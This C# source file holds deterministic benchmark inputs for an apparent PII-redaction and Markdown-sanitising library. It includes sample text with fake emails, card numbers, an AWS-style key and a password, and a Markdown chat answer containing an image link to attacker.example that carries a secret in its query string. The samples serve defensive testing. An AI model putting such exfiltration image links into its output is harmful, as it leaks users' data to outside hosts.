using System.Text;

namespace SecureKernel.Benchmarks;

/// <summary>Deterministic inputs shared by the benchmarks.</summary>
internal static class BenchmarkInputs
{
    // Same mix as tests/SecureKernel.Tests/Pii/PiiThroughputMeasurement.cs: mostly prose, code and logs, with an email,
    // phone, card, IBAN, IP, AWS key and URL secret scattered through it.
    private static readonly string[] s_lines =
    [
        "The quarterly review covered onboarding, retention and the roadmap for the next two releases of the product.",
        "Please contact the support team at help.desk@example.com or call +1 415 555 0132 before Friday.",
        "    var client = new HttpClient { BaseAddress = new Uri(\"https://api.example.com/v2/\") }; // retry 3 times",
        "Server 10.20.30.40 returned 503 for 12.5% of requests between 09:00 and 09:15 (build 4.2.1).",
        "Refund issued to card 4111 1111 1111 1111 and IBAN GB82 WEST 1234 5698 7654 32 on 2024-03-15.",
        "Our meeting notes: budget approved, hiring two engineers, moving the offsite to the second week of June.",
        "export AWS_ACCESS_KEY_ID=AKIAZ3MSJV4WWNKWW5FB and never commit password=hunter22 to the repository.",
        "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut labore.",
        "Ticket #48213: the user reported that the dashboard chart renders blank in dark mode on Safari 17.",
        "{\"id\": 1842, \"status\": \"ok\", \"items\": [3, 5, 8], \"url\": \"https://cdn.example.net/a/b.png\"}",
    ];

    /// <summary>A chat answer in Markdown (~2.3 KB): headings, emphasis, lists, a table, code, links and images to allowed and other hosts.</summary>
    public const string MarkdownAnswer = """
## Quarterly summary

Revenue grew **4.2%** year over year, driven by *subscriptions* and the new `billing-v2` service.
See the [dashboard](https://trusted.example/dash?q=revenue) and the [external report](https://news.other.example/article/123).

- Churn fell to 2.1% (see https://trusted.example/churn)
- Support tickets: 1,204 (down 8%)
- Open incidents: none ![status](https://cdn.trusted.example/ok.png)

| Region | Q3 | Q4 |
|--------|---:|---:|
| EMEA   | 10 | 12 |
| APAC   |  8 |  9 |

```python
def total(xs):
    return sum(x.amount for x in xs)  # <script>alert(1)</script> stays text
```

> Note: numbers are preliminary. Reference[^1] and a chart ![chart][c].

[c]: https://attacker.example/p.png?d=SECRET123
[^1]: Finance team, internal memo.

Contact <mailto:finance@trusted.example> or visit www.other.example for more.

1. First, check the **billing** pipeline logs for the failed jobs.
2. Then re-run the export with `--since 2024-01-01`.
3. Finally, confirm the totals match the ledger.

The team also noted that *latency* improved after the cache change, and that the remaining work is tracked in the
[project board](https://trusted.example/board/42). No customer data was affected.

""";

    /// <summary>Mixed text of at least <paramref name="targetChars"/> characters.</summary>
    public static string MixedText(int targetChars)
    {
        var sb = new StringBuilder(targetChars + 200);
        int i = 0;
        while (sb.Length < targetChars)
        {
            sb.Append(s_lines[i++ % s_lines.Length]).Append('\n');
        }

        return sb.ToString();
    }

    /// <summary>The Markdown answer repeated to at least <paramref name="targetChars"/> characters.</summary>
    public static string Markdown(int targetChars)
    {
        var sb = new StringBuilder(targetChars + MarkdownAnswer.Length);
        while (sb.Length < targetChars)
        {
            sb.Append(MarkdownAnswer);
        }

        return sb.ToString();
    }

    /// <summary>Splits <paramref name="text"/> into deltas of <paramref name="size"/> characters, like streamed tokens.</summary>
    public static string[] Deltas(string text, int size)
    {
        var deltas = new string[(text.Length + size - 1) / size];
        for (int i = 0; i < deltas.Length; i++)
        {
            int start = i * size;
            deltas[i] = text.Substring(start, Math.Min(size, text.Length - start));
        }

        return deltas;
    }
}
